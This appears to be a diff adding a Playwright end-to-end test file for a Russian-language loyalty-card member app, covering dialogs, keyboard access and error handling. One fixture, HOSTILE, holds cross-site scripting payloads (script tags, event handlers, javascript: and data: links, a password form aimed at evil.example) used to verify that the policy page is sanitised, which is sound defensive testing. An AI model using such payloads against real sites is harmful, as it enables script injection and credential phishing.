@@ -1,0 +1,200 @@
+import { expect, type Page } from '@playwright/test';
+import { expectNoAxeViolations } from './support/accessibility.ts';
+import { desktop } from './support/browser.ts';
+import { test } from './support/fixtures.ts';
+import { signInAs } from './support/sign-in.ts';
+
+const HOSTILE = `<!doctype html><html><head><title>Политика</title>
+  <style>body { display: none }</style><script>window.hacked = 'script'</script>
+  <meta http-equiv="refresh" content="0; url=https://evil.example/"></head>
+  <body onload="window.hacked = 'load'"><main><h1>Заголовок</h1><h2>Раздел</h2>
+  <p style="position: fixed; inset: 0" onclick="window.hacked = 'click'">Текст раздела.</p>
+  <img src="/no/such.png" onerror="window.hacked = 'error'"><svg onload="window.hacked = 'svg'"></svg>
+  <iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
+  <form action="https://evil.example/"><input name="password"><button>Войти</button></form>
+  <a href="javascript:window.hacked = 'link'">Ловушка</a>
+  <a href="data:text/html,<script>opener.hacked = 'data'</script>">Данные</a>
+  <a href="rules.html">Правила программы</a></main></body></html>`;
+
+const policy = (page: Page) => page.getByRole('dialog', { name: 'Политика конфиденциальности' });
+const openPolicy = (page: Page) =>
+  page.getByRole('link', { name: 'Политика конфиденциальности' }).click();
+const activeText = (page: Page) => page.evaluate(() => document.activeElement?.textContent ?? '');
+
+test('[R2.31] a member reads the privacy policy over the screen and comes back to where he was', async ({
+  page,
+}) => {
+  await signInAs(page, 'student');
+  await openPolicy(page);
+  await expect(policy(page).getByRole('heading', { name: '1. Кто обрабатывает' })).toBeVisible();
+  await expect(page).toHaveURL('/my/');
+  await expectNoAxeViolations(page);
+  await page.keyboard.press('Escape');
+  await expect(policy(page)).toHaveCount(0);
+  await expect.poll(() => activeText(page)).toBe('Политика конфиденциальности');
+});
+
+test('[R2.31] a policy that does not come can be asked for again', async ({
+  page,
+  server,
+  expectNetworkErrors,
+}) => {
+  expectNetworkErrors();
+  await signInAs(page, 'student');
+  await server.faults([{ match: 'GET /site/lp/privacy-common/', status: 500, body: '' }]);
+  await openPolicy(page);
+  await expect(policy(page).getByText('Не удалось загрузить контент политики')).toBeVisible();
+  await server.clearFaults();
+  await policy(page).getByRole('button', { name: 'Повторить' }).click();
+  await expect(policy(page).getByRole('heading', { name: '1. Кто обрабатывает' })).toBeVisible();
+});
+
+for (const sanitiser of [
+  'the browser’s own sanitiser',
+  'the library, where the browser has none',
+]) {
+  test(`[R10.6] [R10.3] a hostile policy page is only its text, by ${sanitiser}`, async ({
+    page,
+    server,
+  }) => {
+    if (sanitiser.startsWith('the library')) {
+      await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'));
+    }
+    await server.faults([
+      { match: 'GET /site/lp/privacy-common/', contentType: 'text/html', body: HOSTILE },
+    ]);
+    await signInAs(page, 'student');
+    await openPolicy(page);
+    const text = policy(page).getByText('Текст раздела.');
+    await expect(text).toBeVisible();
+    await text.click();
+    for (const name of ['Ловушка', 'Данные']) {
+      await policy(page).getByText(name).click();
+      await expect(policy(page).getByText(name)).not.toHaveAttribute('href');
+    }
+    await expect(policy(page).getByRole('link', { name: 'Правила программы' })).toHaveAttribute(
+      'href',
+      `${server.origin}/site/lp/privacy-common/rules.html`,
+    );
+    await expect(
+      policy(page).locator('img, iframe, form, input, style, script, [style]'),
+    ).toHaveCount(0);
+    await expect(policy(page).getByText('Заголовок')).toHaveCount(0);
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(page.context().pages()).toHaveLength(1);
+  });
+}
+
+test('[R2.31] a message that comes while a dialog is open can be closed there', async ({
+  page,
+  server,
+}) => {
+  await signInAs(page, 'student');
+  await expect(page.getByText('12 480').first()).toBeVisible();
+  await openPolicy(page);
+  await expect(policy(page).getByRole('heading', { name: '1. Кто обрабатывает' })).toBeVisible();
+  await server.sandbox('POST', 'operations', {
+    email: 'student@example.test',
+    type: 'DECREE',
+    amount: 100,
+  });
+  const messages = policy(page).getByRole('region', { name: 'Сообщения' });
+  const close = messages.getByRole('button', { name: 'Закрыть' }).first();
+  await expect(async () => {
+    await page.evaluate(() => window.dispatchEvent(new Event('online')));
+    await expect(close).toBeVisible({ timeout: 1000 });
+  }).toPass({ timeout: 40_000 });
+  await close.focus();
+  await close.click();
+  await expect(close).toHaveCount(0);
+  await expect(policy(page)).toBeVisible();
+  await server.sandbox('POST', 'reset', { email: 'student@example.test' });
+});
+
+test('[R2.40] [R2.30] a member whose card is blocked reaches the support by the keyboard, and has no chat', async ({
+  page,
+}) => {
+  await signInAs(page, 'card-blocked');
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Карта временно заблокирована');
+  await expect(page.getByRole('link', { name: 'Написать менеджеру' })).toHaveCount(0);
+  await page.keyboard.press('Tab');
+  await expect(page.getByRole('link', { name: 'К содержанию' })).toBeFocused();
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('main')).toBeFocused();
+  await page.keyboard.press('Tab');
+  const mail = page.getByRole('link', { name: 'Написать в поддержку' });
+  await expect(mail).toBeFocused();
+  await expect(mail).toHaveAttribute('href', /^mailto:/);
+  await page.keyboard.press('Tab');
+  await expect(page.getByRole('main').getByRole('link', { name: /^8 800/ })).toBeFocused();
+});
+
+test('[R2.31] [R4.1] a member whose card is off learns what that means and whom to call', async ({
+  page,
+}) => {
+  await signInAs(page, 'card-off');
+  await page.getByRole('button', { name: 'Подробнее' }).click();
+  const explanation = page.getByRole('dialog', { name: 'Карта отключена' });
+  await explanation.getByRole('button', { name: 'Позвонить' }).click();
+  const phones = page.getByRole('dialog', { name: 'Позвонить' });
+  await expect(phones.getByRole('link', { name: /8 800/ })).toHaveAttribute('href', /^tel:8800/);
+  await expectNoAxeViolations(page);
+  await page.keyboard.press('Escape');
+  await expect(phones).toHaveCount(0);
+  await page.keyboard.press('Escape');
+  await expect(explanation).toHaveCount(0);
+});
+
+test('[R2.30] the chat with the manager is under the pickup view, and never over the bar at the bottom', async ({
+  page,
+}) => {
+  await signInAs(page, 'student');
+  const chat = page.getByRole('link', { name: 'Написать менеджеру' });
+  await expect(chat).toBeVisible();
+  const bar = await page.getByRole('navigation', { name: 'Разделы' }).boundingBox();
+  const box = await chat.boundingBox();
+  expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThan(bar?.y ?? 0);
+  await page.getByRole('button', { name: 'Код', exact: true }).click();
+  await expect(page.getByRole('dialog')).toBeVisible();
+  // What lies in the chat's place is the view.
+  const isCovered = await page.evaluate(
+    ([x, y]) => document.elementFromPoint(x ?? 0, y ?? 0)?.closest('dialog') !== null,
+    [(box?.x ?? 0) + 20, (box?.y ?? 0) + 20],
+  );
+  expect(isCovered).toBe(true);
+});
+
+test('[R2.20] without open orders «Код» turns the loyalty card over to its own', async ({
+  page,
+}) => {
+  await signInAs(page, 'poor');
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  await page.getByRole('button', { name: 'Код', exact: true }).click();
+  await expect(page.getByRole('img', { name: /QR-код карты/ })).toBeVisible();
+  await expect(page.getByRole('button', { name: 'Убрать' })).toBeFocused();
+  await page.goto('/my/orders');
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Заказы');
+  await page.getByRole('button', { name: 'Код', exact: true }).click();
+  await expect(page.getByRole('img', { name: /QR-код карты/ })).toBeVisible();
+});
+
+test('[R8.4] a part of the app that the server no longer has offers a reload, which helps', async ({
+  openApp,
+  profileDir,
+  server,
+  problems,
+  expectNetworkErrors,
+}) => {
+  expectNetworkErrors();
+  problems.allow(/dynamically imported module/);
+  const { page } = await openApp(profileDir, { ...desktop, serviceWorkers: 'block' });
+  await signInAs(page, 'student');
+  await expect(page.getByText('12 480').first()).toBeVisible();
+  await server.faults([{ match: 'GET /my/assets/Orders-.*js$', status: 404, body: '' }]);
+  await page.getByRole('navigation').getByRole('link', { name: 'Заказы' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Ошибка' });
+  await expect(dialog).toContainText('Страница устарела, пожалуйста обновите');
+  await server.clearFaults();
+  await dialog.getByRole('button', { name: 'обновить' }).click();
+  await expect(page.getByRole('article').first()).toBeVisible();
+});
